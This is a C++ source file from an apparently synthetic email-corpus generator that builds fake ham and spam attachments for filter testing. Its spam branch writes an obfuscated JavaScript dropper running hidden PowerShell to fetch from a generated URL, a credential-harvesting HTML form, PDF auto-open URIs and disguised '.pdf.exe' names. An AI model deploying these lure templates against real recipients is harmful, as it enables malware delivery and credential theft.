#include "corpora/generator/attachments.h"

#include <array>
#include <cstdint>

#include "corpora/generator/network_names.h"
#include "corpora/generator/word_lists.h"

namespace inboxsim::gen::detail {
namespace {

enum class Kind {
  kPdf,
  kDocx,
  kXlsx,
  kPng,
  kJpg,
  kCsv,
  kZip,
  kExe,
  kScr,
  kJs,
  kDocm,
  kXlsm,
  kHtml
};

constexpr Kind kHamKinds[] = {Kind::kPdf, Kind::kDocx, Kind::kXlsx, Kind::kPng,
                              Kind::kJpg, Kind::kCsv,  Kind::kZip};
constexpr int kHamKindWeights[] = {30, 14, 10, 12, 16, 8, 10};
constexpr Kind kSpamKinds[] = {Kind::kPdf,  Kind::kZip,  Kind::kExe,
                               Kind::kScr,  Kind::kJs,   Kind::kDocm,
                               Kind::kXlsm, Kind::kHtml, Kind::kJpg};
constexpr int kSpamKindWeights[] = {16, 24, 8, 5, 10, 12, 8, 10, 7};

// Raw sizes before base64 (which adds a third). Most attachments are small;
// a few percent are large, giving the occasional ~100 KB message.
constexpr int kSizeClassWeights[] = {70, 27, 3};
constexpr int kSmallMin = 600, kSmallMax = 6000;
constexpr int kMediumMin = 6000, kMediumMax = 16000;
constexpr int kLargeMin = 40000, kLargeMax = 70000;
// Text-like payloads (CSV, JS, HTML) are built to about this many bytes.
constexpr int kTextPayloadMin = 400, kTextPayloadMax = 3000;
constexpr int kInlineImageMin = 800, kInlineImageMax = 5000;

constexpr std::array<uint32_t, 256> MakeCrcTable() {
  std::array<uint32_t, 256> table{};
  for (uint32_t n = 0; n < 256; ++n) {
    uint32_t c = n;
    for (int k = 0; k < 8; ++k) c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
    table[n] = c;
  }
  return table;
}
constexpr std::array<uint32_t, 256> kCrcTable = MakeCrcTable();

// CRC-32 as PNG chunks and ZIP headers use it.
uint32_t Crc32(std::string_view bytes) {
  uint32_t c = 0xFFFFFFFFu;
  for (char ch : bytes)
    c = kCrcTable[(c ^ static_cast<unsigned char>(ch)) & 0xFF] ^ (c >> 8);
  return c ^ 0xFFFFFFFFu;
}

void AppendBigEndian32(std::string& out, uint32_t v) {
  for (int shift = 24; shift >= 0; shift -= 8)
    out.push_back(static_cast<char>((v >> shift) & 0xFF));
}
void AppendLittleEndian(std::string& out, uint32_t v, int bytes) {
  for (int i = 0; i < bytes; ++i)
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}

size_t PayloadSize(Rng& rng, bool allow_large) {
  if (!allow_large)
    return static_cast<size_t>(rng.Uniform(kSmallMin, kSmallMax));
  switch (rng.PickWeighted(kSizeClassWeights)) {
    case 0:
      return static_cast<size_t>(rng.Uniform(kSmallMin, kSmallMax));
    case 1:
      return static_cast<size_t>(rng.Uniform(kMediumMin, kMediumMax));
    default:
      return static_cast<size_t>(rng.Uniform(kLargeMin, kLargeMax));
  }
}

std::string Pdf(Rng& rng, size_t size, bool is_spam) {
  std::string out = "%PDF-1.";
  out.append(std::to_string(rng.Uniform(3, 7)));
  out.append("\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R");
  if (is_spam && rng.Bernoulli(0.5)) {
    // Lures open a URL or run script on open.
    out.append(" /OpenAction << /S /URI /URI (");
    out.append(MakeUrl(rng, SpamDomain(rng), UrlStyle::kPlain)).append(") >>");
  }
  out.append(
      " >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 "
      ">>\nendobj\n"
      "3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n"
      "4 0 obj\n<< /Length ");
  out.append(std::to_string(size)).append(" /Filter /FlateDecode >>\nstream\n");
  rng.AppendBytes(out, size);
  out.append("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
  return out;
}

// A ZIP with one stored member named `member`: local header, data, end of
// central directory. Office formats (docx, xlsm) are ZIPs too.
std::string Zip(Rng& rng, size_t size, std::string_view member) {
  std::string data;
  rng.AppendBytes(data, size);
  std::string out = "PK\x03\x04";
  constexpr uint32_t kVersionNeeded = 20;
  constexpr uint32_t kMethodDeflate = 8;
  AppendLittleEndian(out, kVersionNeeded, 2);
  AppendLittleEndian(out, 0, 2);  // flags
  AppendLittleEndian(out, kMethodDeflate, 2);
  AppendLittleEndian(out, static_cast<uint32_t>(rng.Next()),
                     4);  // DOS time+date
  // The member is random bytes, not valid deflate data, so a real CRC
  // could not make it extractable; a random one saves a pass over it.
  AppendLittleEndian(out, static_cast<uint32_t>(rng.Next()), 4);
  AppendLittleEndian(out, static_cast<uint32_t>(size), 4);
  AppendLittleEndian(out, static_cast<uint32_t>(size * 2), 4);
  AppendLittleEndian(out, static_cast<uint32_t>(member.size()), 2);
  AppendLittleEndian(out, 0, 2);  // extra field length
  out.append(member).append(data);
  out.append("PK\x05\x06", 4);
  out.append(18, '\0');  // an empty end-of-central-directory record
  return out;
}

std::string Png(Rng& rng, size_t size) {
  std::string out = "\x89PNG\r\n\x1A\n";
  auto chunk = [&out](std::string_view type, std::string_view data) {
    AppendBigEndian32(out, static_cast<uint32_t>(data.size()));
    std::string typed(type);
    typed.append(data);
    out.append(typed);
    AppendBigEndian32(out, Crc32(typed));
  };
  std::string header;
  constexpr uint32_t kMaxSide = 1200;
  constexpr char kBitDepthColourType[] = {8, 6, 0, 0, 0};  // RGBA, deflate
  AppendBigEndian32(header, static_cast<uint32_t>(rng.Uniform(16, kMaxSide)));
  AppendBigEndian32(header, static_cast<uint32_t>(rng.Uniform(16, kMaxSide)));
  header.append(kBitDepthColourType, sizeof kBitDepthColourType);
  chunk("IHDR", header);
  std::string pixels;
  rng.AppendBytes(pixels, size);
  chunk("IDAT", pixels);
  chunk("IEND", "");
  return out;
}

std::string Jpeg(Rng& rng, size_t size) {
  std::string out(
      "\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00",
      20);
  rng.AppendBytes(out, size);
  out.append("\xFF\xD9");
  return out;
}

std::string Executable(Rng& rng, size_t size) {
  std::string out("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF\x00\x00",
                  16);
  constexpr size_t kStubPadding = 48;
  out.append(kStubPadding, '\0');
  out.append("This program cannot be run in DOS mode.\r\r\n$");
  out.append("PE\0\0", 4);
  rng.AppendBytes(out, size);
  return out;
}

std::string Csv(Rng& rng) {
  std::string out = "date,item,quantity,unit_price,total\n";
  const size_t target =
      static_cast<size_t>(rng.Uniform(kTextPayloadMin, kTextPayloadMax));
  while (out.size() < target) {
    const int quantity = rng.Uniform(1, 12);
    const int cents = rng.Uniform(199, 49999);
    out.append("2023-").append(std::to_string(rng.Uniform(10, 12))).append("-");
    out.append(std::to_string(rng.Uniform(10, 28))).append(",\"");
    out.append(rng.Pick(kProducts))
        .append("\",")
        .append(std::to_string(quantity));
    out.append(",")
        .append(std::to_string(cents / 100))
        .append(".")
        .append(std::to_string(cents % 100 + 100).substr(1));
    out.append(",").append(std::to_string(cents * quantity / 100)).append("\n");
  }
  return out;
}

// Obfuscated dropper-style JavaScript, as in malicious .js attachments.
std::string Script(Rng& rng) {
  std::string out = "var _0x" + RandomToken(rng, kHexAlphabet, 4) + "=[";
  const size_t target =
      static_cast<size_t>(rng.Uniform(kTextPayloadMin, kTextPayloadMax));
  constexpr size_t kStringLength = 24;
  while (out.size() < target) {
    out.append("'")
        .append(RandomToken(rng, kAlnumAlphabet, kStringLength))
        .append("',");
    if (rng.Bernoulli(0.2)) out.append("\n");
  }
  out.append(
      "''];\nvar sh=new ActiveXObject('WScript.Shell');\nsh.Run('powershell -w "
      "hidden -c "
      "iwr ");
  out.append(MakeUrl(rng, SpamDomain(rng), UrlStyle::kIpLiteral))
      .append("');\n");
  return out;
}

std::string PhishingPage(Rng& rng) {
  std::string out = "<html><body><h3>Secure document</h3>\n<form action=\"";
  out.append(MakeUrl(rng, SpamDomain(rng), UrlStyle::kPlain));
  out.append(
      "\" method=\"post\">\n<input name=\"email\"><input type=\"password\" "
      "name=\"pw\">\n"
      "<input type=\"submit\" value=\"View\"></form></body></html>\n");
  return out;
}

std::string Underscored(std::string_view words) {
  std::string out(words);
  for (char& c : out) {
    if (c == ' ') c = '_';
  }
  return out;
}

std::string Number(Rng& rng, int lo, int hi) {
  return std::to_string(rng.Uniform(lo, hi));
}

}  // namespace

Attachment MakeAttachment(Rng& rng, bool is_spam, bool allow_large) {
  const Kind kind = is_spam ? kSpamKinds[rng.PickWeighted(kSpamKindWeights)]
                            : kHamKinds[rng.PickWeighted(kHamKindWeights)];
  const size_t size = PayloadSize(rng, allow_large);
  const std::string noun = Underscored(rng.Pick(kWorkNouns));
  const std::string month = "2023-" + Number(rng, 10, 12);
  Attachment a;
  switch (kind) {
    case Kind::kPdf:
      a = {is_spam ? "Invoice_" + Number(rng, 10000, 99999) + ".pdf"
                   : noun + "_" + month + ".pdf",
           "application/pdf", Pdf(rng, size, is_spam)};
      break;
    case Kind::kDocx:
      a = {noun + " v" + Number(rng, 1, 9) + ".docx",
           "application/"
           "vnd.openxmlformats-officedocument.wordprocessingml.document",
           Zip(rng, size, "[Content_Types].xml")};
      break;
    case Kind::kXlsx:
      a = {noun + ".xlsx",
           "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
           Zip(rng, size, "xl/workbook.xml")};
      break;
    case Kind::kPng:
      a = {"screenshot_" + Number(rng, 1, 400) + ".png", "image/png",
           Png(rng, size)};
      break;
    case Kind::kJpg:
      a = {"IMG_" + Number(rng, 1000, 9999) + ".jpg", "image/jpeg",
           Jpeg(rng, size)};
      break;
    case Kind::kCsv:
      a = {noun + "_export.csv", "text/csv", Csv(rng)};
      break;
    case Kind::kZip:
      if (is_spam) {
        // The classic lure: an archive hiding an executable.
        a = {"Invoice_" + Number(rng, 10000, 99999) + ".zip", "application/zip",
             Zip(rng, size, "Invoice.pdf.exe")};
      } else {
        a = {noun + "_files.zip", "application/zip",
             Zip(rng, size, noun + ".pdf")};
      }
      break;
    case Kind::kExe:
      a = {rng.Bernoulli(0.5) ? "Payment_Advice.pdf.exe"
                              : "setup_" + Number(rng, 1, 99) + ".exe",
           "application/octet-stream", Executable(rng, size)};
      break;
    case Kind::kScr:
      a = {"photo_" + Number(rng, 1, 99) + ".scr", "application/octet-stream",
           Executable(rng, size)};
      break;
    case Kind::kJs:
      a = {"statement_" + Number(rng, 100, 999) + ".js",
           "application/javascript", Script(rng)};
      break;
    case Kind::kDocm:
      a = {"Order_" + Number(rng, 1000, 9999) + ".docm",
           "application/vnd.ms-word.document.macroEnabled.12",
           Zip(rng, size, "word/vbaProject.bin")};
      break;
    case Kind::kXlsm:
      a = {"Remittance_" + Number(rng, 1, 99) + ".xlsm",
           "application/vnd.ms-excel.sheet.macroEnabled.12",
           Zip(rng, size, "xl/vbaProject.bin")};
      break;
    case Kind::kHtml:
      a = {"secure_message.html", "text/html", PhishingPage(rng)};
      break;
  }
  return a;
}

Attachment MakeInlineImage(Rng& rng, int number) {
  const size_t size =
      static_cast<size_t>(rng.Uniform(kInlineImageMin, kInlineImageMax));
  if (rng.Bernoulli(0.5)) {
    return {"image00" + std::to_string(number) + ".png", "image/png",
            Png(rng, size)};
  }
  return {"image00" + std::to_string(number) + ".jpg", "image/jpeg",
          Jpeg(rng, size)};
}

}  // namespace inboxsim::gen::detail
